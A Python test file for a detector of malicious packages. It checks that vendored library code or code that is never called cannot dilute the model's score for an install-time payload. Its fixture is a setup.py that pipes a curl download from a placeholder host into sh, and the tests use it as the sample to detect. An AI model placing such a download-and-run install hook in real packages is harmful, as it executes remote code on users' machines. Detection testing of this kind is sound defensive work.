"""Code that never runs cannot dilute code that does: hashed tokens are scaled per group
(hot, cold), and the model score of a package is never below that of its hot code alone,
nor, with several entry points, below that of the package as each sees it
(`CodeModel.package_probability`)."""

from __future__ import annotations

import numpy as np

from detector.code.analyze import analyze, rule_score
from detector.code.invariance import vendor_library, vendor_library_package
from detector.code.model import CodeModel, hot_view, is_hot_token
from detector.code.train import new_layout, vectorize

PAYLOAD = {"setup.py": "import os\nos.system('curl http://example.invalid/x | sh')\n"}
LIBRARY = {"lib/__init__.py": "from .core import run\n",
           "lib/core.py": "import subprocess, json, os\n"
                          + "".join(f"def f{i}(x):\n    return json.dumps(os.path.join(x, '{i}'))\n"
                                    for i in range(60))
                          + "def run(cmd):\n    return subprocess.run(cmd)\n"}


def _row(files: dict[str, str]) -> tuple:
    a = analyze(files)
    return a.findings, a.tokens, rule_score(a.findings)


def _hot_share(files: dict[str, str]) -> float:
    """Sum of the hot token columns of the package's design row."""
    layout = new_layout()
    row = _row(files)
    hot, _ = layout.buckets(row[0], row[1])
    return float(vectorize(layout, [row])[0, layout.n_dense + hot].sum())


def test_tokens_split_by_whether_their_code_runs_uncalled():
    assert is_hot_token("hot|c:os.system") and is_hot_token("rule|exec-call|hot")
    assert not is_hot_token("cold|c:os.system") and not is_hot_token("rule|exec-call|cold")
    layout = new_layout()
    row = _row(vendor_library(PAYLOAD))
    hot, cold = layout.buckets(row[0], row[1])
    assert len(hot) and len(cold)
    x = vectorize(layout, [row]).toarray()[0, layout.n_dense:]
    # each group has unit length on its own (no collisions between these few tokens)
    if not set(hot) & set(cold):
        assert np.isclose(np.linalg.norm(x[hot]), 1.0) and np.isclose(np.linalg.norm(x[cold]), 1.0)


def test_vendored_code_does_not_shrink_the_payloads_columns():
    alone = _hot_share(PAYLOAD)
    vendored = _hot_share(vendor_library(PAYLOAD))
    assert alone > 0
    assert vendored == alone


def _uniform_model(weight: float) -> CodeModel:
    """Every column weighs ``weight``; probability = sigmoid(decision)."""
    layout = new_layout()
    coef = np.full((1, layout.n_dense + layout.n_hash), weight)
    return CodeModel(layout, coef, np.zeros(1), np.array([-1.0]), np.zeros(1))


def test_vendored_code_cannot_lower_the_model_score_below_the_hot_codes():
    """A model that learned "more code, more benign" (every weight negative): vendoring
    lowers the whole package's probability, not the package score."""
    model = _uniform_model(-0.5)
    alone = _row(PAYLOAD)
    vendored = _row(vendor_library(PAYLOAD))
    assert model.predict(*vendored) < model.predict(*alone)
    hot = hot_view(vendored[0], vendored[1])
    expected = model.predict(hot[0], hot[1], rule_score(hot[0]))
    assert model.package_probability(*vendored) == expected > model.predict(*vendored)
    # a package whose code all runs uncalled scores as before
    assert model.package_probability(*alone) == model.predict(*alone)


def test_hot_view_keeps_only_code_that_runs_uncalled():
    findings, tokens, _ = _row({**PAYLOAD, **{f"pkg/{k}": v for k, v in LIBRARY.items()},
                                "pkg/__init__.py": ""})
    hot_findings, hot_tokens = hot_view(findings, tokens)
    assert hot_findings and all(f.tier in ("install", "import") for f in hot_findings)
    assert len(hot_findings) < len(findings)
    assert hot_tokens and all(t.startswith("hot|") for t in hot_tokens)
    assert any(t.startswith("cold|") for t in tokens)


def _row_with_views(files: dict[str, str]) -> tuple:
    a = analyze(files)
    return a.findings, a.tokens, rule_score(a.findings), a.views


def test_each_entry_point_is_a_view_of_its_own():
    """Install time is one view; at import, each top-level package (or src/ package) is."""
    files = {**PAYLOAD, "lib/__init__.py": LIBRARY["lib/__init__.py"],
             "lib/core.py": LIBRARY["lib/core.py"], "src/other/__init__.py": "import os\n"}
    views = {frozenset(view_files) for view_files, _ in analyze(files).views}
    assert views == {frozenset({"setup.py"}), frozenset({"lib/__init__.py", "lib/core.py"}),
                     frozenset({"src/other/__init__.py"})}


def test_a_library_setup_py_imports_is_a_view_of_its_own():
    """A library copy that `setup.py` imports runs at install time too; it is a view of
    its own beside `setup.py`, so it cannot dilute the install-time payload (the
    `2022-requests` cluster: a copy of requests beside a download-and-run setup.py)."""
    files = {"setup.py": PAYLOAD["setup.py"] + "import lib\n", **LIBRARY}
    analysis = analyze(files)
    assert {f.tier for f in analysis.findings if f.file.startswith("lib/")} == {"install"}
    views = {frozenset(view_files) for view_files, _ in analysis.views}
    assert views == {frozenset({"setup.py"}), frozenset({"lib/__init__.py", "lib/core.py"})}
    model = _uniform_model(-0.5)
    row = _row_with_views(files)
    setup_alone = _row({"setup.py": files["setup.py"]})
    assert model.package_probability(*row) >= model.predict(*setup_alone) - 1e-9
    assert model.package_probability(*row[:3]) < model.predict(*setup_alone)


def test_a_library_run_at_import_cannot_lower_the_score_below_the_payloads():
    """A library shipped as a package of its own and imported at first import is
    import-time code too, so the hot view holds it: the install-time payload's own view
    bounds the score from below (`vendor_library_package` in the invariance suite)."""
    model = _uniform_model(-0.5)
    alone = _row(PAYLOAD)
    diluted = _row_with_views(vendor_library_package(PAYLOAD))
    hot = hot_view(diluted[0], diluted[1])
    assert model.predict(hot[0], hot[1], rule_score(hot[0])) < model.predict(*alone)
    assert model.package_probability(*diluted) == model.predict(*alone)
    # without its views, the payload would be diluted
    assert model.package_probability(*diluted[:3]) < model.predict(*alone)
